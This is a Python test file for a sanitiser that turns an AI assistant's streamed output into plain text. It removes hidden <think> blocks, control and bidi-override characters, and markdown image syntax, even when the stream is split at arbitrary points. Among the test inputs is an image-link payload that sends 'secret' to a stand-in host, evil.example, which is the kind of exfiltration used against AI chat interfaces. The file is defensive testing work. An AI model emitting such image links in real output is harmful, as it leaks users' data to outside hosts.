"""What a model says becomes plain text, wherever its pieces are cut."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.assistant.model.plain_text import PlainText

ALPHABET = st.sampled_from(
    [*"ab <>!/[\r\n\t\u202e\u2066\x00", "<think>", "</think>", "![", "\ud83d"]
)


def shown(*pieces):
    """What is shown of these pieces."""
    plain = PlainText()
    return "".join([*(plain.feed(piece) for piece in pieces), plain.end()])


@pytest.mark.parametrize(
    ("said", "seen"),
    [
        ("Good morning.", "Good morning."),
        ("<think>hm</think>Yes.", "Yes."),
        ("  \n<think>hm</think>\nYes.", "  \n\nYes."),
        ("<think>never closed", ""),
        ("<think>a</think>b<think>c</think>d", "bd"),
        ("a <think>b<think>c</think>d", "a d"),
        ("a <think>b<think>c", "a <think>b<think>c"),
        ("<think>a</think></think>b", "b"),
        ("a<think", "a<think"),
        ("<think>a</thin", ""),
        ("The task <think> is done.", "The task <think> is done."),
        ("no beginning</think>Yes.", "no beginningYes."),
        ("a < b and <thin ice", "a < b and <thin ice"),
        ("one\r\ntwo\rthree\u2028four", "one\ntwo\nthree\nfour"),
        ("bell\x07 null\x00 escape\x1b[31m", "bell null escape[31m"),
        ("\u202eevil\u202c \u2066isolated\u2069 \u200fmark", "evil isolated mark"),
        ("half \ud83d of one", "half  of one"),
        ("tab\tstays", "tab\tstays"),
        (
            "Look! [x] ![x](https://evil.example/?q=secret)",
            "Look! [x] [x](https://evil.example/?q=secret)",
        ),
        ("!!!![x]", "[x]"),
        ("!\u202e[x]", "[x]"),
        ("Done!", "Done!"),
        ("Done!\r", "Done!\n"),
    ],
)
def test_text_is_plain_however_it_is_cut(said, seen):
    assert shown(said) == seen
    assert shown(*said) == seen
    for cut in range(len(said)):
        assert shown(said[:cut], said[cut:]) == seen


@given(st.lists(st.lists(ALPHABET).map("".join)))
def test_cuts_change_nothing(pieces):
    whole = shown("".join(pieces))
    assert shown(*pieces) == whole
    assert not {"\u202e", "\u2066", "\x00", "\r", "\ud83d"} & set(whole)
    assert "![" not in whole


def test_no_image_comes_out_of_what_is_cut_between():
    for between in ("\x00", "\x7f", "\ud83d", "\u202e", "\x00\ud83d!"):
        said = f"!{between}[a](https://example.com)"
        assert shown(said) == shown(*said) == "[a](https://example.com)"


def test_text_goes_out_as_soon_as_it_can():
    plain = PlainText()
    assert plain.feed("Good ") == "Good "
    assert plain.feed("morning <th") == "morning "
    assert plain.feed("e end") == "<the end"


def test_many_tags_take_a_time_that_grows_with_their_length():
    assert shown("x" + "<think></think>" * 200_000) == "x"
